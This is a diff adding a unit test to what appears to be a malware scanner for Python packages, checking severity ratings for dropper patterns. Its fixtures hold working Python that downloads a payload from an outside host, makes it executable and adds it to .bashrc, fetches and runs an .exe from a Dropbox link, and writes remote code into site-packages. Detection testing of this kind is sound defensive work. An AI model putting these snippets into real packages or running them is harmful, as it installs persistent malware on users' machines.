@@ -195,6 +195,76 @@ static void test_rules_behave__download_script(void **state)
 		-1);
 }
 
+/* The full dropper chain is not lowered in code nothing calls at import;
+ * a download planted in site-packages is persistence. */
+static void test_rules_behave__dropper_chain(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/pr.py",
+			 "import os, stat, urllib.request\n"
+			 "def rn():\n"
+			 "    r = urllib.request.urlopen('http://203.0.113.7/out')\n"
+			 "    os.chdir(os.path.expanduser('~'))\n"
+			 "    with open('.drv', 'wb') as d:\n"
+			 "        d.write(r.read())\n"
+			 "    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n"
+			 "    with open('.bashrc', 'a') as b:\n"
+			 "        b.write('~/.drv &')\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_CRITICAL);
+	/* an .exe from a file-drop host, written and started: runtime
+	 * code, still high */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os, requests\n"
+			 "class dl:\n"
+			 "    @staticmethod\n"
+			 "    def go():\n"
+			 "        p = os.environ['TEMP'] + '\\\\u.exe'\n"
+			 "        open(p, 'wb').write(requests.get("
+			 "'https://dl.dropbox.com/s/x/u.exe?dl=0').content)\n"
+			 "        os.system(p)\n",
+			 LG_RULE_DOWNLOAD_EXEC),
+		LG_SEV_HIGH);
+	/* planted in site-packages by a function import starts */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/__init__.py",
+			 "import os, threading, requests\n"
+			 "path = os.path.expanduser('~/.local/lib/python3/"
+			 "site-packages/helper')\n"
+			 "def init():\n"
+			 "    code = requests.get('https://x.example.invalid/r').text\n"
+			 "    os.makedirs(path, exist_ok=True)\n"
+			 "    with open(path + '/__init__.py', 'w') as f:\n"
+			 "        f.write(code)\n"
+			 "threading.Thread(target=init).start()\n",
+			 LG_RULE_PERSIST),
+		LG_SEV_HIGH);
+	/* near misses: a download cached under the user's cache dir; a
+	 * function that names site-packages but downloads nothing */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/cache.py",
+			 "import os, requests\n"
+			 "def fetch(u):\n"
+			 "    p = os.path.expanduser('~/.cache/pkg/model.bin')\n"
+			 "    with open(p, 'wb') as f:\n"
+			 "        f.write(requests.get(u).content)\n"
+			 "fetch('https://x.example.invalid/m')\n",
+			 LG_RULE_PERSIST),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/where.py",
+			 "import site\n"
+			 "def sp():\n"
+			 "    return [p for p in site.getsitepackages() "
+			 "if p.endswith('site-packages')]\n"
+			 "def save(p, data):\n"
+			 "    open(p, 'w').write(data)\n",
+			 LG_RULE_PERSIST),
+		-1);
+}
+
 /* ---- proc.* ------------------------------------------------------------------
  */
 
@@ -960,6 +1030,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__import_process),
 		cmocka_unit_test(test_rules_behave__import_process_near_misses),
 		cmocka_unit_test(test_rules_behave__download_script),
+		cmocka_unit_test(test_rules_behave__dropper_chain),
 		cmocka_unit_test(test_rules_behave__encoded_destination),
 		cmocka_unit_test(test_rules_behave__lolbin),
 		cmocka_unit_test(test_rules_behave__reverse_shell),
